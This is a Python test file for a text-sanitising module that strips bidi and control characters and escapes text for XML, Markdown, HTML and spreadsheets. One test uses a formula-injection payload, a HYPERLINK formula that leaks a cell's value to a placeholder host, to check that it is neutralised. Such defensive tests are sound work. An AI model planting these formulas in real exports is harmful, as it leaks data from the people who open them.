"""Escaping rules for untrusted text (coopnet.textsafe)."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coopnet.textsafe import (
    BIDI_CONTROLS,
    REPLACEMENT,
    clean_text,
    html_text,
    markdown_text,
    spreadsheet_text,
    xml_text,
)

# every character class the writers must survive (st.characters excludes lone surrogates)
ANY_TEXT = st.text(st.characters(codec=None, exclude_categories=()), max_size=40)


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("Amt A", "Amt A"),
        ("Amt\u202eA", "AmtA"),  # right-to-left override removed
        ("\u2066x\u2069", "x"),  # isolates removed
        ("Zeile 1\x0bZeile 2", "Zeile 1 Zeile 2"),  # Word's manual line break
        ("a\x00b\x1bc\x7fd\x85e", f"a{REPLACEMENT}b{REPLACEMENT}c{REPLACEMENT}d e"),
        ("tab\tnew\nline\r", "tab\tnew\nline\r"),  # kept
        ("\ud800", REPLACEMENT),  # a lone surrogate (from surrogateescape decoding)
        ("Müller – Süd", "Müller – Süd"),
        ("עברית", "עברית"),  # right-to-left scripts stay
    ],
)
def test_clean_text(raw: str, clean: str) -> None:
    assert clean_text(raw) == clean


@given(ANY_TEXT)
def test_clean_text_is_idempotent_and_leaves_no_control(text: str) -> None:
    cleaned = clean_text(text)
    assert clean_text(cleaned) == cleaned
    assert not set(cleaned) & BIDI_CONTROLS
    assert all(c in "\t\n\r" or (ord(c) >= 32 and not 0x7F <= ord(c) <= 0x9F) for c in cleaned)


@given(ANY_TEXT)
def test_xml_text_keeps_everything_xml_can_hold(text: str) -> None:
    text = text.replace("\r", "")  # line ends: see below
    kept = xml_text(text)
    assert len(kept) == len(text)
    for before, after in zip(text, kept, strict=True):
        legal = (
            before in "\t\n\r" or 0x20 <= ord(before) <= 0xD7FF or 0xE000 <= ord(before) <= 0xFFFD
        )
        legal = legal or ord(before) >= 0x10000
        assert after == (before if legal else REPLACEMENT)


def test_xml_text_turns_carriage_returns_into_line_feeds() -> None:
    assert xml_text("a\r\nb\rc\n") == "a\nb\nc\n"  # as an XML reader would read them


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_text_neutralises_formulas(start: str) -> None:
    assert spreadsheet_text(f'{start}HYPERLINK("http://x?leak="&A1)').startswith("'" + start)
    assert spreadsheet_text("Amt =1") == "Amt =1"  # only a leading character matters
    assert spreadsheet_text(3) == "3"


@given(ANY_TEXT)
def test_spreadsheet_text_never_starts_a_formula(text: str) -> None:
    assert not spreadsheet_text(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_markdown_text_escapes_markup() -> None:
    assert markdown_text("**fett** _x_ `c` ![l](u) <b> # | ~ $x$ &amp; &#x202E; & Co") == (
        r"\*\*fett\*\* \_x\_ \`c\` !\[l\](u) \<b\> \# \| \~ \$x\$ \&amp; \&\#x202E; & Co"
    )
    assert markdown_text("eins\nzwei\r\n## drei") == r"eins zwei \#\# drei"
    assert markdown_text("Amt\u202e A") == "Amt A"


@given(ANY_TEXT)
def test_markdown_text_is_one_line_without_unescaped_markup(text: str) -> None:
    escaped = markdown_text(text)
    assert "\n" not in escaped and "\r" not in escaped
    # removing every backslash escape gives the cleaned text back
    import re

    assert re.sub(r"\\(.)", r"\1", escaped) == re.sub(r"[\t\n\r]+", " ", clean_text(text))


@given(ANY_TEXT)
def test_html_text_round_trips_through_unescape(text: str) -> None:
    escaped = html_text(text)
    assert "<" not in escaped and ">" not in escaped and '"' not in escaped
    assert html.unescape(escaped) == clean_text(text)


def test_unclean_above_c0_is_what_clean_text_changes_above_u001f() -> None:
    # the character class coopnet.interactive searches JSON for, before it cleans a payload
    from coopnet.textsafe import UNCLEAN_ABOVE_C0

    unclean = re.compile(f"[{UNCLEAN_ABOVE_C0}]")
    for code in [*range(0x20, 0x10000), 0x1F600, 0x10FFFF]:
        char = chr(code)
        assert bool(unclean.match(char)) == (clean_text(char) != char), hex(code)
